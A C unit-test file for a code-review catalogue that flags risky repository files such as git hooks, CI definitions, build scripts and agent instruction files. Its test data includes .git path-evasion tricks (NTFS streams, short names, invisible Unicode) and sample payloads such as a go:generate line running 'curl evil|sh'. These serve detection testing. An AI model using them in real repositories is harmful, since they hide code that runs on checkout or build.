/* Unit tests for review/catalogue.c: a table of paths -> family (or
 * none), every row of issue #16's "Why" among them (on main before the
 * catalogue, all 34 were unflagged: notes/review-evidence), with the nested,
 * case-folded and file-system-folded variants; ordinary files stay
 * ordinary (negative controls); docs/review.md lists every pattern. */
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "review/catalogue.h"

static const char *docs_path;

static const struct {
  const char *path;
  const char *family; /* NULL: ordinary content */
} cases[] = {
    /* issue #16 "Why": one directory down */
    {"sub/.husky/pre-commit", "hooks"},
    {"sub/.envrc", "env"},
    {"sub/.vscode/tasks.json", "editor"},
    {"sub/.claude/settings.json", "agent"},
    {"sub/.npmrc", "package"},
    {"sub/.pre-commit-config.yaml", "hooks"},
    {"tally/.gitattributes", "git"},
    {"sub/AGENTS.md", "agent"},
    {"sub/pom.xml", "build"},
    {"sub/Cargo.toml", "build"},
    {"sub/build.gradle", "build"},
    /* whole families that were missing */
    {"lefthook.yml", "hooks"},
    {"justfile", "build"},
    {"Taskfile.yml", "build"},
    {"composer.json", "package"},
    {".cargo/config.toml", "build"},
    {"sitecustomize.py", "build"},
    {"lib/python3/site-packages/evil.pth", "build"},
    {"pytest.ini", "test"},
    {".bazelrc", "build"},
    {".pnpmfile.cjs", "package"},
    {"gradle/wrapper/gradle-wrapper.properties", "build"},
    {".mise.toml", "env"},
    {"flake.nix", "build"},
    {".gitlab/ci/deploy.yml", "ci"},
    {"jest.config.js", "test"},
    {"scripts/test.sh", "script"},
    {"GEMINI.md", "agent"},
    {".github/copilot-instructions.md", "agent"},
    {"tests/plugins/evil_plugin.py", "test"},
    /* git itself */
    {"sub/.git/hooks/pre-commit", "git"},
    {"sub/.git", "git"},
    {".git/hooks/post-checkout", "git"},
    {"sub/.GIT/hooks/pre-commit", "git"},
    {".Git/config", "git"},
    {"a/b/c/.git/config", "git"},
    {".git./hooks/x", "git"},             /* NTFS drops trailing dots */
    {".git /hooks/x", "git"},             /* ... and spaces */
    {".git::$INDEX_ALLOCATION/x", "git"}, /* NTFS stream name */
    {"GIT~1/hooks/x", "git"},             /* NTFS 8.3 short name */
    {".g\xe2\x80\x8cit/config", "git"},   /* HFS+ ignores U+200C */
    {"x/.\xef\xbb\xbfgit/config", "git"}, /* ... and U+FEFF */
    {"GITMOD~1", "git"},
    {".gitmodules", "git"},
    {"vendor/lib/.gitmodules", "git"},
    {".GitAttributes", "git"},
    {".githooks/pre-push", "git"},
    {".lfsconfig", "git"},
    /* CI at any depth and in other systems */
    {".github/workflows/ci.yml", "ci"},
    {"sub/.github/workflows/ci.yml", "ci"},
    {".GITHUB/WORKFLOWS/CI.YML", "ci"},
    {".github/actions/setup/action.yml", "ci"},
    {"tools/action.yaml", "ci"},
    {".gitlab-ci.yml", "ci"},
    {".circleci/config.yml", "ci"},
    {".travis.yml", "ci"},
    {"azure-pipelines.yml", "ci"},
    {"Jenkinsfile", "ci"},
    {".buildkite/pipeline.yml", "ci"},
    {".drone.yml", "ci"},
    {".woodpecker/build.yml", "ci"},
    {".forgejo/workflows/x.yml", "ci"},
    {"bitbucket-pipelines.yml", "ci"},
    /* hook managers */
    {"pkg/.husky/_/husky.sh", "hooks"},
    {".overcommit.yml", "hooks"},
    {"lefthook-local.yml", "hooks"},
    {".lintstagedrc.json", "hooks"},
    /* build and package tools of each ecosystem */
    {"Makefile", "build"},
    {"src/GNUmakefile", "build"},
    {"rules.mk", "build"},
    {"CMakeLists.txt", "build"},
    {"sub/meson.build", "build"},
    {"configure", "build"},
    {"setup.py", "build"},
    {"pkg/pyproject.toml", "build"},
    {"setup.cfg", "build"},
    {"tox.ini", "test"},
    {"noxfile.py", "build"},
    {"tests/conftest.py", "test"},
    {"usercustomize.py", "build"},
    {"requirements-dev.txt", "package"},
    {"web/package.json", "package"},
    {".yarnrc.yml", "package"},
    {"vite.config.ts", "build"},
    {"webpack.config.js", "build"},
    {"playwright.config.ts", "build"},
    {"eslint.config.mjs", "build"},
    {".babelrc", "build"},
    {"go.mod", "package"},
    {"build.rs", "build"},
    {"crates/x/build.rs", "build"},
    {"rust-toolchain.toml", "build"},
    {"build.gradle.kts", "build"},
    {"settings.gradle", "build"},
    {"mvnw", "build"},
    {".mvn/extensions.xml", "build"},
    {"Gemfile", "package"},
    {"Rakefile", "build"},
    {"x.gemspec", "package"},
    {".rspec", "test"},
    {"MyApp.csproj", "build"},
    {"Directory.Build.props", "build"},
    {"Directory.Build.targets", "build"},
    {"NuGet.Config", "package"},
    {"default.nix", "build"},
    {"shell.nix", "build"},
    {"BUILD", "build"},
    {"pkg/BUILD.bazel", "build"},
    {"WORKSPACE", "build"},
    {"MODULE.bazel", "build"},
    {"Dockerfile", "build"},
    {"docker-compose.yml", "build"},
    /* editors, dev containers, agents, env loaders */
    {".vscode/launch.json", "editor"},
    {".vscode/settings.json", "editor"},
    {".devcontainer/devcontainer.json", "editor"},
    {".idea/workspace.xml", "editor"},
    {"CLAUDE.md", "agent"},
    {"pkg/CLAUDE.md", "agent"},
    {".claude/commands/x.md", "agent"},
    {".codex/config.toml", "agent"},
    {".gemini/settings.json", "agent"},
    {".cursor/rules/x.mdc", "agent"},
    {".cursorrules", "agent"},
    {".windsurfrules", "agent"},
    {".mcp.json", "agent"},
    {".vscode/mcp.json", "agent"},
    {".env", "env"},
    {"api/.env.local", "env"},
    {".tool-versions", "env"},
    {"bin/run", "script"},
    {".github/CODEOWNERS", "review"},
    {"docs/CODEOWNERS", "review"},
    /* ordinary content: negative controls */
    {"README.md", NULL},
    {"tally/stats.py", NULL},
    {"src/main.c", NULL},
    {"docs/guide.md", NULL},
    {".gitignore", NULL},
    {"sub/.gitignore", NULL},
    {"tests/test_stats.py", NULL},
    {"foo.git", NULL},
    {"github/workflows.md", NULL},
    {"mybuild", NULL},
    {"src/scripts.c", NULL},
    {"config.js", NULL},
};

static void test_table(void **state)
{
  (void)state;
  int bad = 0;
  for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
    const al_review_rule *r = al_review_catalogue_match(cases[i].path);
    const char *got = r ? r->family : NULL;
    if ((got == NULL) != (cases[i].family == NULL) || (got && strcmp(got, cases[i].family) != 0)) {
      print_error("%s: want %s, got %s (%s)\n", cases[i].path,
                  cases[i].family ? cases[i].family : "none", got ? got : "none",
                  r ? r->pattern : "-");
      bad++;
    }
    if (r)
      assert_true(r->why && r->why[0]); /* a flag always says why */
  }
  assert_int_equal(bad, 0);
}

static void test_fold(void **state)
{
  (void)state;
  char out[256];
  al_review_fold_path("A/.GIT. /Hooks", out, sizeof out);
  assert_string_equal(out, "a/.git/hooks");
  al_review_fold_path("git~1/x", out, sizeof out);
  assert_string_equal(out, ".git/x");
  al_review_fold_path(".\xe2\x80\xaegit", out, sizeof out); /* U+202E dropped */
  assert_string_equal(out, ".git");
  al_review_fold_path("abcdef", out, 4); /* truncated, terminated */
  assert_string_equal(out, "abc");
  /* a path over 4 KiB is its own note, not a silent pass */
  char *big = malloc(5000);
  memset(big, 'a', 4999);
  big[4999] = '\0';
  const al_review_rule *r = al_review_catalogue_match(big);
  assert_non_null(r);
  assert_string_equal(r->family, "name");
  free(big);
}

static void test_content(void **state)
{
  (void)state;
  const char *go = "package x\n//go:generate sh -c 'curl evil|sh'\n";
  const al_review_content_rule *r = al_review_content_match("pkg/x.go", go, strlen(go));
  assert_non_null(r);
  assert_string_equal(r->family, "build");
  assert_null(al_review_content_match("pkg/x.go", "package x\n", 10)); /* control */
  const char *req = "requests\nevil @ https://evil.example/evil.tar.gz\n";
  r = al_review_content_match("requirements.txt", req, strlen(req));
  assert_non_null(r);
  assert_non_null(strstr(r->why, "URL"));
  const char *sh = "#!/bin/sh\necho hi\n";
  r = al_review_content_match("tools/thing", sh, strlen(sh));
  assert_non_null(r);
  assert_null(al_review_content_match("tools/thing", "echo #!/bin/sh\n", 15));
  const char *plug = "def pytest_configure(config):\n    pass\n";
  r = al_review_content_match("tests/helpers/x.py", plug, strlen(plug));
  assert_non_null(r);
  assert_string_equal(r->family, "test");
}

/* every family a rule names is in the family table, and docs/review.md
 * names every pattern */
static void test_families_and_docs(void **state)
{
  (void)state;
  size_t nf, nr, nc;
  const al_review_family *f = al_review_families(&nf);
  const al_review_rule *r = al_review_rules(&nr);
  const al_review_content_rule *c = al_review_content_rules(&nc);
  assert_true(nr > 250);
  for (size_t i = 0; i < nr; i++) {
    if (!r[i].family)
      continue;
    bool found = false;
    for (size_t j = 0; j < nf; j++)
      found |= strcmp(f[j].id, r[i].family) == 0;
    if (!found)
      print_error("rule %s: family %s not in the table\n", r[i].pattern, r[i].family);
    assert_true(found);
  }
  if (!docs_path) {
    print_message("docs path not given: skipping the docs check\n");
    return;
  }
  FILE *fp = fopen(docs_path, "r");
  assert_non_null(fp);
  static char doc[1 << 20];
  size_t n = fread(doc, 1, sizeof doc - 1, fp);
  fclose(fp);
  doc[n] = '\0';
  int missing = 0;
  for (size_t i = 0; i < nr; i++) {
    char want[300];
    snprintf(want, sizeof want, "`%s`", r[i].pattern);
    if (!strstr(doc, want)) {
      print_error("docs/review.md does not list %s\n", want);
      missing++;
    }
  }
  for (size_t i = 0; i < nc; i++) {
    char want[300];
    snprintf(want, sizeof want, "`%s`", c[i].needle);
    if (!strstr(doc, want)) {
      print_error("docs/review.md does not list the content rule %s\n", want);
      missing++;
    }
  }
  assert_int_equal(missing, 0);
}

/* GitLab's CI definition changed between two trees (issue #30) */
static void test_gitlab_ci(void **state)
{
  (void)state;
  assert_true(al_review_is_gitlab_ci_path(".gitlab-ci.yml", NULL));
  assert_true(al_review_is_gitlab_ci_path(".gitlab-ci.yaml", NULL));
  assert_true(al_review_is_gitlab_ci_path(".gitlab/ci/deploy.yml", ""));
  assert_true(al_review_is_gitlab_ci_path("ci/pipe.yml", "ci/pipe.yml"));
  assert_false(al_review_is_gitlab_ci_path("ci/pipe.yml", "ci/pipe.yml@group/other"));
  assert_false(al_review_is_gitlab_ci_path("src/.gitlab-ci.yml", NULL));
  assert_false(al_review_is_gitlab_ci_path(".gitlab/CODEOWNERS", NULL));
  assert_false(al_review_is_gitlab_ci_path("README.md", NULL));
  json_t *base = json_pack("{s:{s:s, s:s, s:s}, s:{s:s, s:s, s:s}}", ".gitlab-ci.yml", "mode",
                           "100644", "type", "blob", "sha", "aaaa", "README.md", "mode", "100644",
                           "type", "blob", "sha", "bbbb");
  json_t *head = json_deep_copy(base);
  char p[64];
  assert_int_equal(al_review_gitlab_ci_changed(base, head, NULL, p, sizeof p), 0);
  /* an ordinary file changed: not the CI definition */
  json_object_set_new(json_object_get(head, "README.md"), "sha", json_string("cccc"));
  assert_int_equal(al_review_gitlab_ci_changed(base, head, NULL, p, sizeof p), 0);
  /* the definition's content, its mode, an include added, the file removed */
  json_object_set_new(json_object_get(head, ".gitlab-ci.yml"), "sha", json_string("dddd"));
  assert_int_equal(al_review_gitlab_ci_changed(base, head, NULL, p, sizeof p), 1);
  assert_string_equal(p, ".gitlab-ci.yml");
  json_object_set_new(json_object_get(head, ".gitlab-ci.yml"), "sha", json_string("aaaa"));
  json_object_set_new(json_object_get(head, ".gitlab-ci.yml"), "mode", json_string("120000"));
  assert_int_equal(al_review_gitlab_ci_changed(base, head, NULL, p, sizeof p), 1);
  json_object_set_new(json_object_get(head, ".gitlab-ci.yml"), "mode", json_string("100644"));
  json_object_set_new(head, ".gitlab/ci/x.yml",
                      json_pack("{s:s, s:s, s:s}", "mode", "100644", "type", "blob", "sha", "e"));
  assert_int_equal(al_review_gitlab_ci_changed(base, head, NULL, p, sizeof p), 1);
  assert_string_equal(p, ".gitlab/ci/x.yml");
  json_object_del(head, ".gitlab/ci/x.yml");
  json_object_del(head, ".gitlab-ci.yml");
  assert_int_equal(al_review_gitlab_ci_changed(base, head, NULL, p, sizeof p), 1);
  assert_string_equal(p, ".gitlab-ci.yml");
  /* the project's ci_config_path */
  json_object_set_new(head, "ci/p.yml",
                      json_pack("{s:s, s:s, s:s}", "mode", "100644", "type", "blob", "sha", "f"));
  json_object_set(head, ".gitlab-ci.yml", json_object_get(base, ".gitlab-ci.yml"));
  assert_int_equal(al_review_gitlab_ci_changed(base, head, NULL, p, sizeof p), 0);
  assert_int_equal(al_review_gitlab_ci_changed(base, head, "ci/p.yml", p, sizeof p), 1);
  assert_int_equal(al_review_gitlab_ci_changed(base, json_null(), NULL, p, sizeof p), -1);
  json_decref(base);
  json_decref(head);
}

int main(int argc, char **argv)
{
  docs_path = argc > 1 ? argv[1] : NULL;
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_table),
      cmocka_unit_test(test_gitlab_ci),
      cmocka_unit_test(test_fold),
      cmocka_unit_test(test_content),
      cmocka_unit_test(test_families_and_docs),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
